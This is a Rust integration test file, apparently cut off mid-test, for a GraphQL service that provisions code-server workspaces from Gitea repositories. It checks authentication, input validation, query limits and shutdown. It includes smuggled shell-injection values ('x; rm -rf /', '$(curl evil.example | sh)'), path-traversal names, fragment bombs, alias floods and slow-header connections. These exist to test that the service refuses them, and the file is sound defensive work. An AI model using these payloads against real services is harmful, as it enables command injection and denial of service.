//! The GraphQL API through the warp filter, in-process, against the simulated issuer and
//! Gitea.

#[path = "support/world.rs"]
mod world;

use std::{sync::Arc, time::Duration};

use codeserver_service::http;
use codeserver_sim::{gitea::GiteaFault, issuer::TokenSpec};
use serde_json::{Value, json};
use warp::Filter;
use world::{World, error_of, silent_cluster, unreachable_cluster};

/// The service with no cluster to reach: any cluster call fails, so an answer other than
/// `internal error` proves the cluster was never called.
async fn harness() -> World {
    harness_with(http::ApiSettings::default()).await
}

/// [`harness`] with `api`.
async fn harness_with(api: http::ApiSettings) -> World {
    World::builder()
        .cluster(unreachable_cluster().await)
        .api(api)
        .start()
        .await
}

#[tokio::test]
async fn my_repositories_lists_what_gitea_lets_the_caller_read() {
    let h = harness().await;
    let alice = h.token("alice");
    let body = h
        .query(
            Some(&alice),
            "{ myRepositories { owner name cloneUrl private } }",
        )
        .await;
    let repos = body["data"]["myRepositories"].as_array().unwrap();
    let names: Vec<String> = repos
        .iter()
        .map(|r| {
            format!(
                "{}/{}",
                r["owner"].as_str().unwrap(),
                r["name"].as_str().unwrap()
            )
        })
        .collect();
    assert!(
        names.contains(&"devteam/backend-api".to_owned()),
        "{names:?}"
    );
    assert!(names.contains(&"alice/notes".to_owned()));
    assert!(
        names.contains(&"devteam/docs".to_owned()) && names.contains(&"admin/test".to_owned()),
        "public repositories can be provisioned too: {names:?}"
    );
    assert!(
        !names.contains(&"bob/secret-project".to_owned()),
        "{names:?}"
    );
    assert!(h.metrics.encode().contains(
        "codeserver_graphql_request_duration_seconds_count{operation=\"myRepositories\"} 1"
    ));
    let mut paged = Vec::new();
    for page in 1..=4 {
        let body = h
            .query(
                Some(&alice),
                &format!("{{ myRepositories(page: {page}, limit: 2) {{ owner name }} }}"),
            )
            .await;
        let batch = body["data"]["myRepositories"].as_array().unwrap().clone();
        assert!(batch.len() <= 2, "{body}");
        paged.extend(batch.iter().map(|r| {
            format!(
                "{}/{}",
                r["owner"].as_str().unwrap(),
                r["name"].as_str().unwrap()
            )
        }));
    }
    assert_eq!(paged, names, "the pages together are the whole list");
    for bad in ["limit: 51", "limit: 0", "page: 0", "page: 101"] {
        let body = h
            .query(
                Some(&alice),
                &format!("{{ myRepositories({bad}) {{ name }} }}"),
            )
            .await;
        assert_eq!(error_of(&body).1, "BAD_USER_INPUT", "{bad}: {body}");
    }
}

#[tokio::test]
async fn unauthenticated_and_forged_callers_get_unauthorized() {
    let h = harness().await;
    let forged = h
        .issuer
        .mint(&TokenSpec::new("alice").audience("someone-else"))
        .unwrap();
    for token in [None, Some("garbage"), Some(forged.as_str())] {
        let body = h.query(token, "{ myRepositories { name } }").await;
        assert_eq!(
            error_of(&body),
            ("unauthorized", "UNAUTHENTICATED"),
            "{body}"
        );
        assert!(body["data"].is_null());
    }
    assert_eq!(h.gitea.requests(), 0, "nothing reached gitea");
}

#[tokio::test]
async fn gitea_outages_answer_with_a_message_not_a_crash() {
    let h = harness().await;
    h.gitea.set_fault(GiteaFault::Unavailable);
    let body = h
        .query(Some(&h.token("alice")), "{ myRepositories { name } }")
        .await;
    assert_eq!(
        error_of(&body),
        ("repository service unavailable", "INTERNAL"),
        "{body}"
    );
    let text = body.to_string();
    assert!(
        !text.contains("127.0.0.1") && !text.contains("503"),
        "{text}"
    );
}

#[tokio::test]
async fn malformed_requests_are_refused_before_execution() {
    let h = harness().await;
    let alice = h.token("alice");
    let plain = h
        .request(reqwest::Method::POST, "/graphql")
        .header("content-type", "text/plain")
        .bearer_auth(&alice)
        .body(json!({"query": "{ myRepositories { name } }"}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(plain.status(), 415);

    let (status, _) = h.post(Some(&alice), &json!("not a request")).await;
    assert_eq!(status, 400);

    let huge =
        json!({ "query": format!("{{ myRepositories {{ name }} }} #{}", "x".repeat(70_000)) });
    let (status, _) = h.post(Some(&alice), &huge).await;
    assert_eq!(status, 413);

    let deep = format!(
        "{{ __schema {{ queryType {{ fields {{ type {{ {} name {} }} }} }} }} }}",
        "ofType {".repeat(20),
        "}".repeat(20)
    );
    let body = h.query(Some(&alice), &deep).await;
    let message = body["errors"][0]["message"].as_str().unwrap_or_default();
    assert!(message.contains("nested too deep"), "{}", body["errors"]);

    let wide: String = (0..1_100)
        .map(|i| format!("a{i}: myRepositories {{ name }} "))
        .collect();
    let body = h.query(Some(&alice), &format!("{{ {wide} }}")).await;
    let message = body["errors"][0]["message"].as_str().unwrap_or_default();
    assert!(message.contains("too complex"), "{}", body["errors"]);
    assert_eq!(h.gitea.requests(), 0);
}

#[tokio::test]
async fn introspection_works_for_graphiql_and_the_page_is_served() {
    let h = harness().await;
    let body = h
        .query(None, "{ __schema { queryType { name fields { name } } } }")
        .await;
    assert_eq!(
        body["data"]["__schema"]["queryType"]["name"], "Query",
        "{body}"
    );
    let page = h.get("/graphql").await;
    assert_eq!(page.status(), 200);
    assert!(page.text().await.unwrap().contains("graphiql"));
}

#[tokio::test]
async fn request_ids_are_echoed_when_safe_and_replaced_when_not() {
    let h = harness().await;
    let reply = |id: &'static str| {
        h.request(reqwest::Method::POST, "/graphql")
            .header("content-type", "application/json")
            .header("x-request-id", id)
            .body(r#"{"query":"{ __typename }"}"#)
            .send()
    };
    let ok = reply("trace-123").await.unwrap();
    assert_eq!(ok.headers()["x-request-id"], "trace-123");
    let hostile = reply("evil id with spaces").await.unwrap();
    let replaced = hostile.headers()["x-request-id"].to_str().unwrap();
    assert_ne!(replaced, "evil id with spaces");
    assert_eq!(replaced.len(), 36, "a fresh uuid");
}

#[tokio::test]
async fn health_and_readiness_follow_the_cluster() {
    let h = harness().await;
    assert_eq!(
        h.get("/health").await.status(),
        200,
        "liveness needs nothing"
    );
    let not_ready = h.get("/ready").await;
    assert_eq!(not_ready.status(), 503);
    let body: Value = not_ready.json().await.unwrap();
    assert!(!body.to_string().contains("Kubernetes"), "{body}");
    // Only ready / not ready and the template revision; the details go to the log.
    let revision = body["templates"]["revision"].as_str().unwrap_or_default();
    assert!(!revision.is_empty(), "{body}");
    assert_eq!(
        body,
        json!({"status": "not ready", "templates": {"revision": revision}, "degraded": []})
    );
    let body = h.query(None, "{ health }").await;
    assert_eq!(body["data"]["health"], false, "{body}");
}

#[tokio::test]
async fn metrics_are_served_with_their_content_type() {
    let h = harness().await;
    h.query(None, "{ myRepositories { name } }").await;
    let metrics = h.get("/metrics").await;
    assert_eq!(metrics.status(), 200);
    let content_type = metrics.headers()["content-type"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(content_type.starts_with("text/plain"), "{content_type}");
    let text = metrics.text().await.unwrap();
    assert!(
        text.contains(
            "codeserver_graphql_request_duration_seconds_count{operation=\"myRepositories\"} 1"
        ),
        "{text}"
    );
    assert_eq!(h.get("/nope").await.status(), 404);
    let put = h
        .request(reqwest::Method::PUT, "/graphql")
        .send()
        .await
        .unwrap();
    assert_eq!(put.status(), 405);
}

#[tokio::test]
async fn every_operation_needs_authentication() {
    let h = harness().await;
    for operation in [
        "{ myCodeServers { id } }",
        "{ codeServer(id: \"code-server-alice\") { id } }",
        "{ codeServerStatus(id: \"code-server-alice\") }",
        "{ codeServerLogs(id: \"code-server-alice\") }",
        "{ instanceStats { totalInstances } }",
        "{ renderCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { manifests } }",
        "{ planCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { unchanged } }",
        "mutation { provisionCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { isNew } }",
        "mutation { stopCodeServer(id: \"code-server-alice\") }",
        "mutation { startCodeServer(id: \"code-server-alice\") { id } }",
        "mutation { deleteCodeServer(id: \"code-server-alice\") }",
        "mutation { syncRepository(id: \"code-server-alice\") }",
    ] {
        let body = h.query(None, operation).await;
        assert_eq!(
            error_of(&body),
            ("unauthorized", "UNAUTHENTICATED"),
            "{operation}: {body}"
        );
    }
    assert_eq!(h.gitea.requests(), 0);
}

#[tokio::test]
async fn hostile_arguments_are_refused_before_any_call() {
    let h = harness().await;
    let alice = h.token("alice");
    let long = "a".repeat(10_000);
    for (owner, name) in [
        ("devteam", "x; rm -rf /"),
        ("devteam", "$(curl evil.example | sh)"),
        ("devteam", ".."),
        ("..", "docs"),
        ("devteam", "line\nbreak"),
        ("devteam", long.as_str()),
    ] {
        let body = h
            .post(
                Some(&alice),
                &json!({
                    "query": "mutation($o: String!, $n: String!) { provisionCodeServer(repoOwner: $o, repoName: $n) { isNew } }",
                    "variables": {"o": owner, "n": name},
                }),
            )
            .await
            .1;
        let (message, code) = error_of(&body);
        assert_eq!(code, "BAD_USER_INPUT", "{owner:?}/{name:.40?}: {body:.300}");
        assert!(
            !message.contains("rm -rf") && message.len() < 200,
            "{message}"
        );
    }
    for id in ["code-server-../x", "Code-Server-Alice", "x", long.as_str()] {
        for operation in [
            "query($id: String!) { codeServerStatus(id: $id) }",
            "mutation($id: String!) { stopCodeServer(id: $id) }",
            "mutation($id: String!) { deleteCodeServer(id: $id) }",
            "mutation($id: String!) { syncRepository(id: $id) }",
        ] {
            let body = h
                .post(
                    Some(&alice),
                    &json!({"query": operation, "variables": {"id": id}}),
                )
                .await
                .1;
            assert_eq!(error_of(&body).1, "BAD_USER_INPUT", "{operation} {id:.40}");
        }
    }
    for lines in [0, -5, 10_001] {
        let body = h
            .post(
                Some(&alice),
                &json!({
                    "query": "query($l: Int) { codeServerLogs(id: \"code-server-alice\", lines: $l) }",
                    "variables": {"l": lines},
                }),
            )
            .await
            .1;
        assert_eq!(error_of(&body).1, "BAD_USER_INPUT", "{lines}");
    }
    assert_eq!(h.gitea.requests(), 0, "nothing reached gitea");
}

#[tokio::test]
async fn provisioning_a_repository_gitea_refuses_creates_nothing() {
    let h = harness().await;
    let bob = h.token("bob");
    for (owner, name) in [("alice", "notes"), ("nobody", "nothing")] {
        let body = h
            .query(
                Some(&bob),
                &format!(
                    "mutation {{ provisionCodeServer(repoOwner: \"{owner}\", repoName: \"{name}\") {{ isNew }} }}"
                ),
            )
            .await;
        // NB: the cluster is unreachable here, so reaching it would answer INTERNAL.
        assert_eq!(
            error_of(&body),
            ("repository access denied", "FORBIDDEN"),
            "{body}"
        );
    }
    h.gitea.set_fault(GiteaFault::Unavailable);
    let body = h
        .query(
            Some(&bob),
            "mutation { provisionCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { isNew } }",
        )
        .await;
    assert_eq!(
        error_of(&body),
        ("repository service unavailable", "INTERNAL"),
        "{body}"
    );
}

#[tokio::test]
async fn admin_operations_need_the_admin_role() {
    let h = harness().await;
    let bob = h.token("bob");
    let body = h
        .query(Some(&bob), "{ instanceStats { totalInstances } }")
        .await;
    assert_eq!(error_of(&body), ("forbidden", "FORBIDDEN"), "{body}");
    for field in ["renderCodeServer", "planCodeServer"] {
        let body = h
            .query(
                Some(&bob),
                &format!(
                    "{{ {field}(repoOwner: \"devteam\", repoName: \"docs\", userId: \"alice\") {{ __typename }} }}"
                ),
            )
            .await;
        assert_eq!(error_of(&body), ("forbidden", "FORBIDDEN"), "{body}");
    }
    assert_eq!(h.gitea.requests(), 0);
}

/// The spec's schema, verbatim (comments dropped).
const SPEC_SCHEMA: &str = r#"
type CodeServerInstance {
    id: String!
    userId: String!
    repoName: String!
    repoOwner: String!
    url: String!
    status: InstanceStatus!
    createdAt: String!
    lastAccessedAt: String
    storageUsed: String
}
enum InstanceStatus {
    PENDING
    STARTING
    RUNNING
    STOPPING
    STOPPED
    ERROR
}
type ProvisionResult {
    instance: CodeServerInstance!
    message: String!
    isNew: Boolean!
}
type InstanceStats {
    totalInstances: Int!
    runningInstances: Int!
    stoppedInstances: Int!
    totalStorageUsed: String!
}
type Query {
    myCodeServers: [CodeServerInstance!]!
    codeServer(id: String!): CodeServerInstance
    codeServerStatus(id: String!): InstanceStatus!
    codeServerLogs(id: String!, lines: Int): String!
    health: Boolean!
    instanceStats: InstanceStats!
}
type Mutation {
    provisionCodeServer(repoOwner: String!, repoName: String!): ProvisionResult!
    stopCodeServer(id: String!): Boolean!
    startCodeServer(id: String!): CodeServerInstance!
    deleteCodeServer(id: String!): Boolean!
    syncRepository(id: String!): Boolean!
}
"#;

/// Fields this service adds to the spec's types (backward compatible: nullable or lists
/// that only grow the answer); `docs/api.md` documents each.
const ADDITIONS: &[(&str, &str)] = &[
    ("type CodeServerInstance", "statusMessage: String"),
    (
        "type CodeServerInstance",
        "repositories: [WorkspaceRepository!]!",
    ),
    ("type CodeServerInstance", "events: [InstanceEvent!]!"),
    ("type CodeServerInstance", "idleStopAt: String"),
    ("type CodeServerInstance", "restartPending: Boolean!"),
    ("type CodeServerInstance", "stopReason: StopReason"),
    ("type CodeServerInstance", "keepAliveUntil: String"),
    ("type CodeServerInstance", "gitIdentity: GitIdentity"),
    ("type CodeServerInstance", "storage: WorkspaceStorage!"),
    ("type CodeServerInstance", "deletedAt: String"),
    ("type CodeServerInstance", "purgeAt: String"),
    ("enum InstanceStatus", "DELETED"),
    ("type InstanceStats", "deletedInstances: Int!"),
    ("type CodeServerInstance", "profile: String"),
];

/// `type Name { ... }` blocks of an SDL text as (header, member lines), descriptions dropped.
fn sdl_blocks(sdl: &str) -> Vec<(String, Vec<String>)> {
    let mut blocks = Vec::new();
    let mut in_description = false;
    let mut current: Option<(String, Vec<String>)> = None;
    for line in sdl.lines().map(str::trim) {
        if line.starts_with("\"\"\"") {
            let one_line = line.len() > 3 && line.ends_with("\"\"\"");
            if !one_line {
                in_description = !in_description;
            }
            continue;
        }
        if in_description || line.is_empty() {
            continue;
        }
        if let Some(header) = line.strip_suffix('{') {
            current = Some((header.trim().to_owned(), Vec::new()));
        } else if line == "}" {
            blocks.extend(current.take());
        } else if let Some((_, members)) = current.as_mut() {
            members.push(line.to_owned());
        }
    }
    blocks
}

#[test]
fn the_schema_has_the_spec_types_fields_and_nullability_exactly() {
    let schema = async_graphql::Schema::build(
        codeserver_service::graphql::Query,
        codeserver_service::graphql::Mutation,
        async_graphql::EmptySubscription,
    )
    .finish();
    let ours = sdl_blocks(&schema.sdl());
    for (header, members) in sdl_blocks(SPEC_SCHEMA) {
        let (_, have) = ours
            .iter()
            .find(|(h, _)| *h == header)
            .unwrap_or_else(|| panic!("{header} is missing"));
        // Optional arguments added to the spec's mutations (backward compatible).
        let have: Vec<String> = have
            .iter()
            .map(|m| {
                m.replace(", profile: String)", ")")
                    .replace(", wait: Boolean = true)", ")")
                    .replace(", purge: Boolean = false)", ")")
            })
            .collect();
        for member in &members {
            assert!(
                have.contains(member),
                "{header}: {member} is missing or differs"
            );
        }
        if !matches!(header.as_str(), "type Query" | "type Mutation") {
            let added: Vec<&str> = ADDITIONS
                .iter()
                .filter(|(h, _)| *h == header)
                .map(|(_, m)| *m)
                .collect();
            for member in &added {
                assert!(have.iter().any(|m| m == member), "{header}: {member}");
            }
            assert_eq!(
                have.len(),
                members.len() + added.len(),
                "{header} has undocumented extra members: {have:?}"
            );
        }
    }
}

/// A route at `/<name>` whose requests report on the receiver as they arrive and answer
/// `done` only once the `Notify` is notified (never, if it is not).
fn held_route(
    name: &'static str,
) -> (
    impl Filter<Extract = (warp::reply::Response,), Error = warp::Rejection>
    + Clone
    + Send
    + Sync
    + 'static,
    tokio::sync::mpsc::UnboundedReceiver<()>,
    Arc<tokio::sync::Notify>,
) {
    use warp::Reply;
    let (arrived, arrivals) = tokio::sync::mpsc::unbounded_channel();
    let release = Arc::new(tokio::sync::Notify::new());
    let held = release.clone();
    let route = warp::path(name).then(move || {
        let (arrived, held) = (arrived.clone(), held.clone());
        async move {
            let _ = arrived.send(());
            held.notified().await;
            warp::reply::html("done").into_response()
        }
    });
    (route, arrivals, release)
}

#[tokio::test]
async fn shutdown_finishes_in_flight_requests_then_stops() {
    codeserver_service::install_crypto();
    let (slow, mut arrivals, release) = held_route("slow");
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/slow", listener.local_addr().unwrap());
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(http::serve(
        listener,
        slow,
        async {
            let _ = stopped.await;
        },
        Duration::from_secs(5),
    ));
    let client = reqwest::Client::new();
    let in_flight = tokio::spawn(client.get(&url).send());
    arrivals.recv().await.unwrap();
    stop.send(()).unwrap();
    // NB: the request is held until released, so the server cannot have finished.
    tokio::task::yield_now().await;
    assert!(!server.is_finished(), "the server waits for the request");
    release.notify_one();
    let answer = in_flight.await.unwrap().unwrap();
    assert_eq!(answer.text().await.unwrap(), "done");
    tokio::time::timeout(Duration::from_secs(2), server)
        .await
        .expect("the server stops once idle")
        .unwrap();
    assert!(reqwest::Client::new().get(&url).send().await.is_err());
}

#[tokio::test(start_paused = true)]
async fn shutdown_gives_up_after_the_grace_period() {
    codeserver_service::install_crypto();
    // Never released: the request is stuck.
    let (stuck, mut arrivals, _release) = held_route("stuck");
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/stuck", listener.local_addr().unwrap());
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(http::serve(
        listener,
        stuck,
        async {
            let _ = stopped.await;
        },
        Duration::from_millis(200),
    ));
    let _in_flight = tokio::spawn(reqwest::Client::new().get(&url).send());
    arrivals.recv().await.unwrap();
    stop.send(()).unwrap();
    tokio::time::timeout(Duration::from_secs(2), server)
        .await
        .expect("serve returns after the grace period")
        .unwrap();
}

/// Fragments `F0` .. `F{levels}`, each spreading the next one twice: `levels` doublings.
fn fragment_bomb(levels: usize) -> String {
    let mut query = String::from("query { myCodeServers { ...F0 } }\n");
    for level in 0..levels {
        let next = level + 1;
        query.push_str(&format!(
            "fragment F{level} on CodeServerInstance {{ id ...F{next} ...F{next} }}\n"
        ));
    }
    query.push_str(&format!(
        "fragment F{levels} on CodeServerInstance {{ id }}\n"
    ));
    query
}

#[tokio::test]
async fn a_fragment_bomb_is_refused_at_once_while_health_answers() {
    let h = Arc::new(harness().await);
    let alice = h.token("alice");
    let bomb = fragment_bomb(40);
    assert!(bomb.len() < 4_096, "a small document: {}", bomb.len());
    // Several at once, with a valid token, a forged one and none: all refused by their
    // cost, none reaches validation or a resolver.
    let forged = format!("{alice}x");
    let mut bombs = Vec::new();
    for token in [Some(alice.clone()), Some(forged), None, Some(alice.clone())] {
        let h = h.clone();
        let bomb = bomb.clone();
        bombs.push(tokio::spawn(async move {
            h.query(token.as_deref(), &bomb).await
        }));
    }
    let health = h.get("/health").await;
    assert_eq!(health.status(), 200);
    for answer in bombs {
        let body = answer.await.unwrap();
        assert_eq!(
            error_of(&body),
            ("query too complex", "QUERY_TOO_COMPLEX"),
            "{body}"
        );
        assert!(body.get("data").is_none(), "{body}");
    }
    assert_eq!(h.get("/health").await.status(), 200);
    // A fragment that spreads itself is refused the same way.
    let cycle = "query { myCodeServers { ...A } } \
                 fragment A on CodeServerInstance { id ...B } \
                 fragment B on CodeServerInstance { id ...A }";
    let body = h.query(Some(&alice), cycle).await;
    assert_eq!(error_of(&body).1, "QUERY_TOO_COMPLEX", "{body}");
    // A small use of fragments is answered as usual.
    let body = h.query(Some(&alice), &fragment_bomb(3)).await;
    assert_eq!(error_of(&body), ("internal error", "INTERNAL"), "{body}");
}

#[tokio::test]
async fn alias_floods_are_refused_before_any_call() {
    let h = harness().await;
    let alice = h.token("alice");
    let repositories: String = (0..1_000)
        .map(|i| format!("a{i}: myRepositories {{ name }} "))
        .collect();
    let logs: String = (0..1_000)
        .map(|i| format!("a{i}: codeServerLogs(id: \"code-server-alice\", lines: 10000) "))
        .collect();
    for flood in [repositories, logs] {
        let body = h.query(Some(&alice), &format!("{{ {flood} }}")).await;
        let (_, code) = error_of(&body);
        assert!(
            matches!(code, "TOO_MANY_ROOT_FIELDS" | "QUERY_TOO_COMPLEX"),
            "{body}"
        );
    }
    let eleven: String = (0..11)
        .map(|i| format!("a{i}: myRepositories {{ name }} "))
        .collect();
    let body = h.query(Some(&alice), &format!("{{ {eleven} }}")).await;
    assert_eq!(
        error_of(&body),
        ("too many root fields", "TOO_MANY_ROOT_FIELDS"),
        "{body}"
    );
    // Spread through fragments, the root fields are counted all the same.
    let body = h
        .query(
            Some(&alice),
            &format!("{{ ...R }} fragment R on Query {{ {eleven} }}"),
        )
        .await;
    assert_eq!(error_of(&body).1, "TOO_MANY_ROOT_FIELDS", "{body}");
    assert_eq!(h.gitea.requests(), 0, "Gitea was never called");
    let ten: String = (0..10)
        .map(|i| format!("a{i}: myRepositories {{ name }} "))
        .collect();
    let body = h.query(Some(&alice), &format!("{{ {ten} }}")).await;
    assert!(body.get("errors").is_none(), "{body}");
    assert_eq!(body["data"].as_object().unwrap().len(), 10);
}

#[tokio::test]
async fn remembered_queries_keep_their_verdicts_under_a_flood_of_new_ones() {
    let h = harness().await;
    let alice = h.token("alice");
    let eleven: String = (0..11).map(|i| format!("a{i}: health ")).collect();
    let refused = format!("{{ {eleven} }}");
    // The same text, refused each time, with a token or without one.
    for token in [Some(alice.as_str()), None, Some(alice.as_str())] {
        let body = h.query(token, &refused).await;
        assert_eq!(error_of(&body).1, "TOO_MANY_ROOT_FIELDS", "{body}");
    }
    // A caller who sends ever-new texts (more than are remembered) is answered each one,
    // and the texts of others keep their answers.
    for i in 0..600 {
        let body = h
            .query(Some(&alice), &format!("{{ n{i}: __typename }}"))
            .await;
        assert_eq!(body["data"][format!("n{i}")], "Query", "{body}");
    }
    let body = h.query(Some(&alice), &refused).await;
    assert_eq!(error_of(&body).1, "TOO_MANY_ROOT_FIELDS", "{body}");
    // Without a token, a remembered text is still refused by authentication.
    let body = h.query(None, "{ myCodeServers { id } }").await;
    assert_eq!(error_of(&body).1, "UNAUTHENTICATED", "{body}");
    let body = h.query(Some(&alice), "{ __typename }").await;
    assert_eq!(body["data"]["__typename"], "Query", "{body}");
    let body = h.query(None, "{ myCodeServers { id } }").await;
    assert_eq!(error_of(&body).1, "UNAUTHENTICATED", "{body}");
    // A text that does not parse is answered its parse error every time.
    for _ in 0..2 {
        let body = h.query(Some(&alice), "{ health").await;
        let message = body["errors"][0]["message"].as_str().unwrap_or_default();
        assert!(message.contains("expected"), "{body}");
    }
}

#[tokio::test]
async fn more_than_three_mutations_in_a_request_are_refused() {
    let h = harness().await;
    let alice = h.token("alice");
    let provision = |i: usize| {
        format!(
            "p{i}: provisionCodeServer(repoOwner: \"devteam\", repoName: \"docs\") {{ isNew }} "
        )
    };
    let hundred: String = (0..100).map(provision).collect();
    let body = h
        .query(Some(&alice), &format!("mutation {{ {hundred} }}"))
        .await;
    assert_eq!(error_of(&body).1, "TOO_MANY_ROOT_FIELDS", "{body}");
    let four: String = (0..4).map(provision).collect();
    let body = h
        .query(Some(&alice), &format!("mutation {{ {four} }}"))
        .await;
    assert_eq!(
        error_of(&body),
        ("too many mutations", "TOO_MANY_MUTATIONS"),
        "{body}"
    );
    // Split over operations of one document, they still count together.
    let split = format!(
        "mutation A {{ {} {} }} mutation B {{ {} {} }}",
        provision(0),
        provision(1),
        provision(2),
        provision(3)
    );
    let (status, body) = h
        .post(Some(&alice), &json!({"query": split, "operationName": "A"}))
        .await;
    assert_eq!(status, 200);
    assert_eq!(error_of(&body).1, "TOO_MANY_MUTATIONS", "{body}");
    assert_eq!(h.gitea.requests(), 0, "nothing was looked up or created");
}

#[tokio::test]
async fn a_caller_gets_a_few_requests_in_flight_and_no_more() {
    let (cluster, mut accepted) = silent_cluster().await;
    let h = Arc::new(
        World::builder()
            .cluster(cluster)
            .api(http::ApiSettings {
                max_requests_per_caller: 2,
                ..http::ApiSettings::default()
            })
            .start()
            .await,
    );
    let alice = h.token("alice");
    let mut stuck = Vec::new();
    for _ in 0..2 {
        let h = h.clone();
        let alice = alice.clone();
        stuck.push(tokio::spawn(async move {
            h.post(Some(&alice), &json!({"query": "{ myCodeServers { id } }"}))
                .await
        }));
        accepted.recv().await.unwrap();
    }
    let (status, body) = h
        .post(Some(&alice), &json!({"query": "{ myCodeServers { id } }"}))
        .await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(
        error_of(&body),
        ("too many concurrent requests", "TOO_MANY_REQUESTS")
    );
    // Another caller is not held back by alice's requests.
    let bob = h.token("bob");
    let other = {
        let h = h.clone();
        tokio::spawn(async move {
            h.post(Some(&bob), &json!({"query": "{ myCodeServers { id } }"}))
                .await
        })
    };
    accepted.recv().await.unwrap();
    // Once alice's requests are gone (the client gave up), she may call again.
    for request in &stuck {
        request.abort();
    }
    other.abort();
    let mut answered = None;
    for _ in 0..200 {
        let (status, body) = h.post(Some(&alice), &json!({"query": "{ health }"})).await;
        if status == 200 {
            answered = Some(body);
            break;
        }
        tokio::task::yield_now().await;
    }
    let body = answered.expect("alice's slots are given back");
    assert!(body["data"]["health"].is_boolean(), "{body}");
}

#[tokio::test(start_paused = true)]
async fn a_request_that_runs_too_long_is_answered_timeout() {
    let (cluster, _accepted) = silent_cluster().await;
    let h = World::builder()
        .cluster(cluster)
        .api(http::ApiSettings {
            server: http::ServerLimits {
                request_timeout: Duration::from_secs(1),
                ..http::ServerLimits::default()
            },
            ..http::ApiSettings::default()
        })
        .start()
        .await;
    let alice = h.token("alice");
    let (status, body) = h
        .post(Some(&alice), &json!({"query": "{ myCodeServers { id } }"}))
        .await;
    assert_eq!(status, 503, "{body}");
    assert_eq!(error_of(&body), ("request timed out", "TIMEOUT"));
    assert_eq!(h.get("/health").await.status(), 200);
}

#[tokio::test]
async fn production_turns_graphiql_and_introspection_off() {
    let h = harness_with(http::ApiSettings {
        graphiql: false,
        introspection: false,
        ..http::ApiSettings::default()
    })
    .await;
    assert_eq!(h.get("/graphql").await.status(), 404);
    for query in [
        "{ __schema { queryType { name } } }",
        "{ __type(name: \"Query\") { name } }",
        "{ ...I } fragment I on Query { ... { __schema { types { name } } } }",
    ] {
        let body = h.query(None, query).await;
        assert_eq!(
            error_of(&body),
            ("introspection is disabled", "INTROSPECTION_DISABLED"),
            "{body}"
        );
        assert!(body.get("data").is_none(), "{body}");
    }
    // What the tools are for still works.
    let body = h.query(None, "{ health }").await;
    assert_eq!(body["data"]["health"], false, "{body}");
}

#[tokio::test]
async fn the_graphiql_page_loads_nothing_from_elsewhere() {
    let h = harness().await;
    let page = h.get("/graphql").await;
    assert_eq!(page.status(), 200);
    let csp = page.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(csp.contains("default-src 'none'") && csp.contains("connect-src 'self'"));
    let html = page.text().await.unwrap();
    assert!(
        html.contains("fetch(\"/graphql\""),
        "the page posts to the service"
    );
    for external in ["http://", "https://", "src=", "<link"] {
        assert!(!html.contains(external), "the page references {external}");
    }
}

#[tokio::test(start_paused = true)]
async fn slow_and_idle_clients_are_cut_off() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use warp::Reply;
    let ok = warp::path::end().map(|| warp::reply::html("ok").into_response());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (_stop, stopped) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(http::serve_with(
        listener,
        ok,
        async {
            let _ = stopped.await;
        },
        Duration::from_secs(1),
        http::ServerLimits {
            header_read_timeout: Duration::from_secs(10),
            request_timeout: Duration::from_secs(60),
        },
    ));
    // NB: the clock is paused and advances only while every task waits: a connection that
    // is never closed would keep this read waiting past the guard below.
    let guard = Duration::from_secs(3_600);

    // Headers that never end.
    let mut slow = tokio::net::TcpStream::connect(addr).await.unwrap();
    slow.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        .await
        .unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(guard, slow.read_to_end(&mut answer))
        .await
        .expect("the server closes a connection whose headers do not come")
        .unwrap();
    assert!(
        !String::from_utf8_lossy(&answer).contains("200 OK"),
        "{answer:?}"
    );

    // A keep-alive connection that goes quiet after one answer.
    let mut idle = tokio::net::TcpStream::connect(addr).await.unwrap();
    idle.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(guard, idle.read_to_end(&mut answer))
        .await
        .expect("the server closes an idle connection")
        .unwrap();
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 200 OK"), "{answer}");
    assert!(answer.ends_with("ok"), "{answer}");
}

#[tokio::test]
async fn code_server_logs_are_capped_in_bytes_keeping_the_newest_lines() {
    use codeserver_service::reconcile::MAX_LOG_BYTES;
    let h = World::start().await;
    let sim = h.sim();
    let alice = h.token("alice");
    let body = h
        .query(
            Some(&alice),
            "mutation { provisionCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { instance { id status } } }",
        )
        .await;
    let id = body["data"]["provisionCodeServer"]["instance"]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("{body}"))
        .to_owned();
    // 3,000 lines of 1 KB: about 3 MiB, far over the cap, and under the 10,000 lines asked.
    let lines: Vec<String> = (0..3_000)
        .map(|i| format!("line {i:05} {}", "x".repeat(1_000)))
        .collect();
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    sim.set_logs("codeserver-instances", &id, "code-server", &refs);
    let body = h
        .query(
            Some(&alice),
            &format!("{{ codeServerLogs(id: \"{id}\", lines: 10000) }}"),
        )
        .await;
    let logs = body["data"]["codeServerLogs"]
        .as_str()
        .unwrap_or_else(|| panic!("{}", body["errors"]));
    assert!(logs.len() <= MAX_LOG_BYTES, "{} bytes", logs.len());
    assert!(logs.len() > MAX_LOG_BYTES / 2, "{} bytes", logs.len());
    assert!(logs.contains("line 02999 "), "the newest line is kept");
    assert!(
        !logs.contains("line 00000 "),
        "the oldest lines are dropped"
    );
